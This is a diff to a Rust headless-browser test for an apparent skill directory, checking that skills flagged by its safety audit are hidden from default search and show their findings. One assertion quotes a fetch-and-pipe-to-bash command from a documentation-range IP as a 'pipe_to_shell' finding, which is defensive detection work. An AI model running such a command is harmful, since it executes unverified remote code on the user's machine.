@@ -1,6 +1,7 @@
 //! The web pages in a real browser: headless Chromium driven through WebDriver
 //! (`chromedriver`), against the server on a loopback port, over the fixture web crawled on
-//! loopback plus `evil.test`, a site whose every text is a script injection.
+//! loopback plus `evil.test`, a site whose every text is a script injection, and sites of
+//! `tests/fixtures/audit-web` (skills the safety audit flags, one skill at two origins).
 //!
 //! Without Chromium and chromedriver the test says it skips, unless `CI` is set, where a
 //! missing browser is a broken set-up. Screenshots of the pages at 1280 and 390 px go to
@@ -75,6 +76,10 @@ async fn start_directory() -> Directory {
                     .all(|error| error.code == "invalid_name"),
                 "{report:?}"
             );
+            // Skills the safety audit flags, and one skill published at two origins.
+            let audited = fixture::repo_root().join("tests/fixtures/audit-web");
+            let sites = ["flagged.test", "origin-a.test", "origin-b.test"];
+            fixture::crawl_into(&store, &blobs, &audited, &sites, true);
             (store, blobs)
         })
         .await
@@ -305,6 +310,88 @@ async fn scenarios(client: &Client, base: &str) {
     the_skill_page_renders_markdown(client, base).await;
     hostile_text_is_shown_as_text_and_never_runs(client, base).await;
     the_publisher_page_shows_failing_checks(client, base).await;
+    a_flagged_skill_shows_its_findings(client, base).await;
+}
+
+async fn a_flagged_skill_shows_its_findings(client: &Client, base: &str) {
+    // Left out of a default search, found with `risk=any`.
+    client
+        .goto(&format!("{base}/?q=quick+setup"))
+        .await
+        .unwrap();
+    let hits = eval(client, "return Array.from(document.querySelectorAll('.hit h2 a')).map(a => a.getAttribute('href'))").await;
+    assert!(!hits.to_string().contains("quick-setup"), "{hits}");
+    client
+        .goto(&format!("{base}/?q=quick+setup&risk=any"))
+        .await
+        .unwrap();
+    let badge = eval(client, "const a = document.querySelector('.hit h2 a[href=\"/skill/flagged.test/quick-setup\"]'); return a ? a.closest('.hit').querySelector('.badge.risk-critical').textContent : null").await;
+    assert!(badge.to_string().contains("critical"), "{badge}");
+
+    client
+        .goto(&format!("{base}/skill/flagged.test/quick-setup"))
+        .await
+        .unwrap();
+    assert_light_and_still(client, "flagged skill").await;
+    assert_no_script_ran(client, "flagged skill").await;
+    let findings = eval(
+        client,
+        "return Array.from(document.querySelectorAll('table.findings tbody tr')).map(r => ({
+            severity: r.querySelector('[data-label=Severity]').innerText.trim(),
+            rule: r.querySelector('[data-label=Rule]').innerText.trim(),
+            place: r.querySelector('[data-label=Where] code').innerText.trim(),
+            excerpt: r.querySelector('pre.excerpt').innerText,
+        }))",
+    )
+    .await;
+    let first = &findings[0];
+    assert_eq!(first["rule"], "pipe_to_shell", "{findings}");
+    assert_eq!(first["place"], "SKILL.md:10", "{findings}");
+    assert!(
+        first["severity"]
+            .as_str()
+            .unwrap()
+            .eq_ignore_ascii_case("critical"),
+        "{findings}"
+    );
+    assert!(
+        first["excerpt"]
+            .as_str()
+            .unwrap()
+            .contains("http://198.51.100.23/setup.sh | bash"),
+        "{findings}"
+    );
+    let caveat = eval(
+        client,
+        "return document.getElementById('audit').parentElement.innerText",
+    )
+    .await;
+    assert!(
+        caveat
+            .as_str()
+            .unwrap()
+            .contains("a linter, not a certificate"),
+        "{caveat}"
+    );
+    screenshots(client, "flagged-skill").await;
+
+    // One skill at two origins: one hit, and its page lists the other.
+    client.goto(&format!("{base}/?q=pdf+tables")).await.unwrap();
+    let copies = eval(client, "return Array.from(document.querySelectorAll('.hit .by a[href$=\"#copies\"]')).map(a => a.textContent)").await;
+    assert_eq!(copies, json!(["also published at 1 other origin"]));
+    client
+        .find(Locator::Css(".hit .by a[href$='#copies']"))
+        .await
+        .unwrap()
+        .click()
+        .await
+        .unwrap();
+    until(
+        client,
+        "the copies listed",
+        "return document.getElementById('copies') !== null && document.querySelectorAll('#copies + p + ul a').length === 1",
+    )
+    .await;
 }
 
 async fn typing_updates_the_results_and_the_url(client: &Client, base: &str) {
